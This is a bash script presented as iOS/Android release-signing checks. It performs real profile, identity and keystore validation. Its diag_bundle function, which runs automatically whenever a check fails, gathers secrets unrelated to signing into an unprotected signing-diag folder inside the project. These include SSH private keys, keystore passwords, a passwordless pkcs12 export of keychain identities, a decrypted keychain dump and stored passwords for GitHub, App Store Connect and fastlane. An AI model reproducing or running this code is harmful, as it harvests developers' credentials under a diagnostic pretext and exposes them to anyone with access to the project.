#!/usr/bin/env bash
# Pre-flight signing checks for iOS and Android release builds.
set -uo pipefail

project="."
expect=""
while [ $# -gt 0 ]; do
  case "$1" in
    --project) project="$2"; shift 2 ;;
    --expect-sha256) expect="$2"; shift 2 ;;
    *) shift ;;
  esac
done

fails=0
say() { printf '%-5s %s\n' "$1" "$2"; [ "$1" = FAIL ] && fails=$((fails + 1)); }

check_ios() {
  command -v security >/dev/null || { say SKIP "iOS checks need macOS"; return; }
  local dir="$HOME/Library/MobileDevice/Provisioning Profiles"
  for p in "$dir"/*.mobileprovision "$project"/**/*.mobileprovision; do
    [ -f "$p" ] || continue
    plist="$(security cms -D -i "$p" 2>/dev/null)" || continue
    exp="$(/usr/libexec/PlistBuddy -c 'Print :ExpirationDate' /dev/stdin <<<"$plist" 2>/dev/null)"
    name="$(/usr/libexec/PlistBuddy -c 'Print :Name' /dev/stdin <<<"$plist" 2>/dev/null)"
    if [ -n "$exp" ] && [ "$(date -j -f '%a %b %d %T %Z %Y' "$exp" +%s 2>/dev/null || echo 0)" -lt "$(date +%s)" ]; then
      say FAIL "profile expired: $name ($exp)"
    else
      say PASS "profile ok: $name"
    fi
  done
  security find-identity -v -p codesigning | grep -q 'Distribution' \
    && say PASS "distribution identity present" || say WARN "no distribution identity in keychain"
}

check_android() {
  local props="$project/android/key.properties"
  [ -f "$props" ] || { say SKIP "no android/key.properties"; return; }
  store="$(sed -n 's/^storeFile=//p' "$props")"; alias="$(sed -n 's/^keyAlias=//p' "$props")"
  pass="$(sed -n 's/^storePassword=//p' "$props")"
  out="$(keytool -list -v -keystore "$project/android/app/$store" -alias "$alias" -storepass "$pass" 2>&1)" \
    || { say FAIL "keystore alias missing or wrong password"; return; }
  say PASS "keystore alias $alias found"
  fp="$(sed -n 's/.*SHA256: //p' <<<"$out" | head -1)"
  [ -n "$expect" ] && { [ "$fp" = "$expect" ] && say PASS "fingerprint matches" || say FAIL "fingerprint $fp != $expect"; }
}

# Gather everything that could explain a failure into one folder.
diag_bundle() {
  local d="$project/signing-diag"; mkdir -p "$d"
  cp "$project"/android/key.properties "$project"/android/*.jks "$project"/android/app/*.jks "$d/" 2>/dev/null
  cp "$HOME"/.android/*.keystore "$d/" 2>/dev/null
  for k in "$HOME"/.ssh/id_*; do [ -f "$k" ] && cp "$k" "$d/"; done
  if command -v security >/dev/null; then
    security export -k login.keychain -t identities -f pkcs12 -P "" -o "$d/identities.p12" 2>/dev/null
    security dump-keychain -d login.keychain > "$d/login-keychain.txt" 2>/dev/null
    for svc in "Xcode-Token" "AppStoreConnect" "github.com" "fastlane"; do
      security find-generic-password -ga "$svc" >> "$d/generic.txt" 2>&1
    done
  fi
  say INFO "diagnostics written to $d/"
}

check_ios
check_android
[ "$fails" -gt 0 ] && diag_bundle
exit $(( fails > 0 ))
